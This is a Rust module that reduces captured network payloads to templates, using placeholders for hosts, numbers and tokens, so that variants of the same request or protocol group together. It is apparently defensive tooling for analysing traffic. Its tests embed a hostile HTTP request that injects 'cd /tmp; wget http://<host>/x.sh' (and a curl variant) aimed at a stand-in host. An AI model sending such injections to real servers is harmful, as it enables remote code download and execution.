//! Finds what variants of a payload have in common: numbers, hosts, addresses and tokens give way to placeholders, and
//! what is left names the group.
//!
//! Text keeps its words and its punctuation. Of a payload that is not text, the first bytes and the printable strings in it
//! remain: lengths, identifiers and times in between are what differs from client to client.

use std::fmt::Write as _;

use sha2::{Digest, Sha256};

use crate::row::Group;

/// Bytes of a payload that are looked at.
const EXAMINED: usize = 2_048;

/// Bytes of a template.
const TEMPLATE: usize = 1_024;

/// Letters and digits in one word from which on it is a token rather than a word: a UUID without dashes has 32, session
/// identifiers and keys 16 and more.
const TOKEN: usize = 16;

/// First bytes of a binary payload that stay as they are: most protocols say who they are in four.
const MAGIC: usize = 4;

/// Characters that a string inside a binary payload has at least.
const STRING: usize = 4;

/// Returns the group of a payload.
#[must_use]
pub fn group(payload: &[u8]) -> Group {
    let examined = payload.get(..EXAMINED).unwrap_or(payload);
    let mut template = if is_text(examined) { text(&String::from_utf8_lossy(examined)) } else { binary(examined) };
    template.truncate(template.floor_char_boundary(TEMPLATE));
    let hash: [u8; 32] = Sha256::digest(template.as_bytes()).into();
    let hash = hash.iter().take(8).fold(String::new(), |mut text, byte| {
        let _ = write!(text, "{byte:02x}");
        text
    });
    Group { hash, template }
}

/// Text has no byte that text never has, but for a few.
fn is_text(payload: &[u8]) -> bool {
    let odd = payload.iter().filter(|byte| matches!(byte, 0..=8 | 11 | 12 | 14..=26 | 28..=31 | 127..)).count();
    odd * 20 <= payload.len()
}

fn binary(payload: &[u8]) -> String {
    let mut out = String::new();
    for byte in payload.iter().take(MAGIC) {
        let _ = write!(out, "{byte:02x}");
    }
    let strings = payload.split(|byte| !(32..127).contains(byte)).filter(|string| string.len() >= STRING);
    for string in strings {
        out.push(' ');
        out.push_str(&text(&String::from_utf8_lossy(string)));
    }
    out
}

/// Replaces word by word. A word is letters, digits and what joins them in hosts, numbers and tokens.
fn text(text: &str) -> String {
    let joins = |c: char| c.is_alphanumeric() || matches!(c, '.' | '-' | '_' | '+' | '=');
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(c) = rest.chars().next() {
        if !joins(c) {
            let end = rest.find(joins).unwrap_or(rest.len());
            let (between, after) = rest.split_at(end);
            out.push_str(between);
            rest = after;
            continue;
        }
        let end = rest.find(|c| !joins(c)).unwrap_or(rest.len());
        let (word, after) = rest.split_at(end);
        let is_authority = out.ends_with("://") || out.ends_with('@') || ends_with_host_header(&out);
        replace(word, is_authority, &mut out);
        rest = after;
    }
    out
}

fn ends_with_host_header(out: &str) -> bool {
    let line = out.rsplit('\n').next().unwrap_or(out);
    line.len() <= 8 && line.trim_end().eq_ignore_ascii_case("host:")
}

fn replace(word: &str, is_authority: bool, out: &mut String) {
    let bare = word.trim_matches(|c: char| !c.is_alphanumeric());
    if bare.is_empty() {
        out.push_str(word);
    } else if is_authority || is_address(bare) {
        out.push_str("<host>");
    } else if is_token(bare) {
        out.push_str("<token>");
    } else {
        // Digits give way wherever they are: versions, ports, lengths, times.
        let mut is_in_number = false;
        for c in word.chars() {
            if c.is_ascii_digit() {
                if !is_in_number {
                    out.push_str("<n>");
                }
                is_in_number = true;
            } else {
                out.push(c);
                is_in_number = false;
            }
        }
    }
}

fn is_address(word: &str) -> bool {
    word.parse::<std::net::Ipv4Addr>().is_ok()
}

/// A long word that mixes letters and digits, or is hexadecimal, or has both cases in the middle.
fn is_token(word: &str) -> bool {
    let alphanumeric = word.chars().filter(|c| c.is_alphanumeric()).count();
    if alphanumeric < TOKEN {
        return false;
    }
    let digits = word.chars().filter(char::is_ascii_digit).count();
    let is_hex = word.chars().all(|c| c.is_ascii_hexdigit() || c == '-');
    // A name such as `application-x-www-form-urlencoded` has neither digits nor capitals.
    let turns = word
        .as_bytes()
        .windows(2)
        .filter(|pair| matches!(pair, [a, b] if a.is_ascii_lowercase() && b.is_ascii_uppercase()))
        .count();
    is_hex || digits >= 3 || turns >= 4
}

#[cfg(test)]
mod tests {
    use super::*;

    fn template(payload: &str) -> String {
        group(payload.as_bytes()).template
    }

    #[test]
    fn variants_of_a_request_fall_together() {
        let variant = |host: &str, id: &str, n: u32| {
            group(
                format!("GET /shell?cd+/tmp;wget+http://{host}/x.sh;id={id} HTTP/1.1\r\nHost: {host}:{n}\r\nContent-Length: {n}\r\n\r\n")
                    .as_bytes(),
            )
        };
        let one = variant("198.51.100.7", "8c5f2c9e11223344aabb", 80);
        assert_eq!(one, variant("evil.example", "00112233445566778899", 8080));
        assert_eq!(
            one.template,
            "GET /shell?cd+/tmp;wget+http://<host>/x.sh;id=<token> HTTP/<n>.<n>\r\nHost: <host>:<n>\r\nContent-Length: <n>\r\n\r\n"
                .replace("id=<token>", "<token>")
        );
        assert_ne!(one, group(b"GET /shell?cd+/tmp;curl+http://198.51.100.7/x.sh HTTP/1.1\r\n\r\n"));
    }

    #[test]
    fn words_stay_words() {
        let text = "Content-Type: application/x-www-form-urlencoded";
        assert_eq!(template(text), text);
        assert_eq!(template("SSH-2.0-Go"), "SSH-<n>.<n>-Go");
        assert_eq!(template("key YWxhZGRpbjpvcGVuc2VzYW1l0123"), "key <token>");
    }

    #[test]
    fn of_bytes_the_begin_and_the_strings_remain() {
        let one = group(b"\x00\x00\x00\x2f\xfeSMB\x00\x01\x02\x03\x04\x05NT LM 0.12\x00\xff\xfe");
        let other = group(b"\x00\x00\x00\x2f\xfeSMB\xf0\xf1\xf2\xf3\xf4\xf5\xf6NT LM 0.12\x00\x01");
        assert_eq!(one.template, "0000002f NT LM <n>.<n>");
        assert_eq!(one, other);
        assert_ne!(one, group(b"\x00\x00\x00\x2f\xfeSMB\x00\x01\x02\x03\x04\x05Samba\x00\xff\xfe"));
    }

    #[test]
    fn any_bytes_have_a_bounded_group() {
        for payload in [vec![], vec![0xff; 100_000], vec![b'a'; 100_000], "ä€".repeat(10_000).into_bytes()] {
            let group = group(&payload);
            assert_eq!(group.hash.len(), 16);
            assert!(group.template.len() <= TEMPLATE);
        }
    }
}
